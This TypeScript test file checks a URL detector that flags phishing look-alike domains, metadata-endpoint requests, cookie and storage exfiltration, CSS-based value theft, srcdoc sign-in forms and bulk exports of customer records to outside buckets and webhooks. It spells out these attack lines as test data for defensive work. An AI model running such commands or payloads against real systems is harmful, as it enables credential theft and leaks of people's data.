// The adversarial_url readings of cases-62 (the shapes the last review listed as missed): a brand run into sign-in words
// without a hyphen (squats.ts), Oracle Cloud's metadata address (hosts.ts, urls.ts), a page's whole cookie jar or storage
// sent to a named site (urls.ts, requests.ts), a frame's srcdoc sign-in form and CSS that reads a value by selectors
// (page-sends.ts), and warehouse exports of people's records to outside places (warehouse-exports.ts), both ways.
import { describe, expect, it } from 'vitest';
import type { Hit } from '../../src/content/codes.js';
import { Text } from '../../src/content/find.js';
import { detectUrls } from '../../src/content/urls.js';

const codes = (text: string): string[] => {
  const out: Hit[] = [];
  detectUrls(new Text(text), out);
  return [...new Set(out.map((h) => h.code))].sort();
};

describe('a brand run into sign-in words', () => {
  it.each([
    'https://paypallogin.com/signin',
    'https://microsoftverify-account.net/',
    'https://appleidsupport.help/',
    'https://secure-netflixbilling.com/',
    'https://www.amazonaccountupdate.com/',
    'https://verifygoogleaccount.net/',
    'https://office365signin.co/',
    'https://chasebankverify.net/',
    'https://id.wellsfargoonlinelogin.com/',
  ])('%s is a look-alike', (url) => expect(codes(`Confirm your identity at ${url} today`)).toEqual(['url_lookalike_host']));

  it.each([
    'https://login.microsoftonline.com/common/oauth2/v2.0/authorize',
    'https://accounts.google.com/signin/v2/identifier',
    'https://signin.aws.amazon.com/console',
    'https://www.paypal.com/signin',
    'https://www.githubstatus.com/',
    'https://www.paypalobjects.com/webstatic/icon/pp258.png',
    'https://www.netflixtechblog.com/',
    'https://www.appleinsider.com/',
    'https://chaseonline.chase.com/',
    'https://www.googlehelp.example/',
    'https://www.linkedinlearning.com/',
    'https://www.chasepaymentech.com/',
  ])('%s is no look-alike', (url) => expect(codes(`See ${url} for details`)).toEqual([]));
});

describe("Oracle Cloud's metadata address", () => {
  it.each(['curl http://192.0.0.192/opc/v2/instance/', 'wget -qO- 192.0.0.192/opc/v1/identity/cert.pem', 'curl http://0xc00000c0/opc/v2/'])(
    '%s is the metadata endpoint',
    (text) => expect(codes(text)).toContain('url_metadata_endpoint'),
  );
  it.each([
    'The instance metadata service answers at http://192.0.0.192/opc/v2/instance/ inside the instance.',
    'DS-Lite gateway: 192.0.0.8; lab vpn 192.0.0.170',
    'curl http://192.0.0.19/status',
  ])('%s is not', (text) => expect(codes(text)).toEqual([]));
});

describe("a page's whole cookie jar or storage sent to a named site", () => {
  it.each([
    "navigator.sendBeacon('https://analytics-edge.net/collect', document.cookie);",
    "new Image().src = 'https://px.adsyncs.com/i.gif?u=' + encodeURIComponent(document.cookie);",
    'navigator.sendBeacon("https://metrics.cdn-fast.org/v1/e", JSON.stringify(localStorage));',
    '<iframe srcdoc="&lt;script&gt;fetch(\'https://cdn-metrics.io/c?d=\'+encodeURIComponent(parent.document.cookie))&lt;/script&gt;"></iframe>',
  ])('%s sends it out', (text) => expect(codes(text)).toEqual(['url_exfiltration']));
  it.each([
    "navigator.sendBeacon('/analytics', JSON.stringify({ path: location.pathname }));",
    "fetch('https://api.myapp.io/refresh', { method: 'POST', body: localStorage.getItem('refresh_token') });",
    "new Image().src = 'https://pixel.mailtrack.io/open.gif?m=' + messageId;",
    "The payload new Image().src='https://attacker.example/?c='+document.cookie ran in the profile page.",
    "fetch('https://api.myapp.io/me'); console.log(document.cookie);",
  ])('%s does not', (text) => expect(codes(text)).toEqual([]));
});

describe("a frame's srcdoc sign-in form, and CSS that reads a value", () => {
  it.each([
    '<iframe srcdoc="&lt;form action=&quot;https://account-check.live/collect&quot;&gt;&lt;input type=&quot;password&quot; name=&quot;pw&quot;&gt;&lt;/form&gt;"></iframe>',
    'input[name="csrf"][value^="a"] { background: url(https://fonts-static.net/x?v=a); }',
    'meta[name="api-key"][content^="sk"] ~ * { background: url(//collect.styleguide.app/k?p=sk); }',
    '{"css": "input[type=password][value$=\\"1\\"]{background-image:url(\\"https://cdn-img.org/l?k=1\\")}"}',
  ])('%s is read', (text) => expect(codes(text)).toEqual(['url_exfiltration']));
  it.each([
    '<iframe sandbox srcdoc="&lt;p&gt;Preview&lt;/p&gt;"></iframe>',
    '<iframe srcdoc="&lt;form action=&quot;/search&quot;&gt;&lt;input name=&quot;q&quot;&gt;&lt;/form&gt;"></iframe>',
    '<iframe srcdoc="&lt;form action=&quot;https://search.example.org/&quot;&gt;&lt;input name=&quot;q&quot;&gt;&lt;/form&gt;"></iframe>',
    'input[type="checkbox"][value="on"] + label { background: url(https://cdn.acme.io/tick.svg?v=3); }',
    'a[href^="http"] { background: url(https://cdn.acme.io/ext.svg?v=2); }',
    'input[value^="a"] { border-color: red; background: url(https://cdn.acme.io/a.png?v=1); }',
  ])('%s is not', (text) => expect(codes(text)).toEqual([]));
});

describe("warehouse exports of people's records to outside places", () => {
  it.each([
    "EXPORT DATA OPTIONS(uri='gs://jdoe-personal-backup/c-*.csv', format='CSV') AS SELECT * FROM crm.customers;",
    "bq extract --destination_format=CSV 'acme:crm.patients' gs://sam-personal-drive/p-*.csv",
    "COPY INTO 's3://lee-personal-archive/m/' FROM (SELECT * FROM PROD.CORE.MEMBERS) FILE_FORMAT = (TYPE = CSV);",
    "INSERT INTO FUNCTION url('https://webhook.site/8c1f9e2a-4b7d-4e1a-9c3f-2d6b8a0e5f11', 'CSV') SELECT * FROM default.users;",
    "INSERT INTO FUNCTION s3('https://185.220.101.47/dump/c.csv', 'CSV') SELECT email, phone FROM shop.customers;",
    "COPY users TO 'https://files.ngrok-free.app/u.parquet' (FORMAT PARQUET);",
    "UNLOAD ('SELECT * FROM public.customers') TO 's3://backup-77/c_' CREDENTIALS 'aws_access_key_id=AKIAQWERTYUIOPASDFGH;aws_secret_access_key=x' CSV;",
  ])('%s is read', (text) => expect(codes(text)).toContain('url_exfiltration'));
  it.each([
    "EXPORT DATA OPTIONS(uri='gs://acme-dw-exports/c-*.csv', format='CSV') AS SELECT * FROM crm.customers;",
    "EXPORT DATA OPTIONS(uri='gs://jdoe-personal-backup/r-*.csv') AS SELECT day, COUNT(*) FROM analytics.users GROUP BY day;",
    "UNLOAD ('SELECT * FROM public.customers') TO 's3://acme-unload/c_' IAM_ROLE 'arn:aws:iam::123456789012:role/Unload';",
    "INSERT INTO FUNCTION url('https://webhook.site/8c1f9e2a-4b7d-4e1a-9c3f-2d6b8a0e5f11', 'JSONEachRow') SELECT day, count() FROM events GROUP BY day;",
    "COPY tbl TO 's3://my-bucket/out.parquet';",
    "EXPORT DATA OPTIONS(uri='gs://bucket/folder/*.csv', format='CSV') AS SELECT field1, field2 FROM mydataset.table1;",
    'Copy the report to https://docs.acme.io/reports and unload the truck.',
  ])('%s is not', (text) => expect(codes(text)).toEqual([]));
});
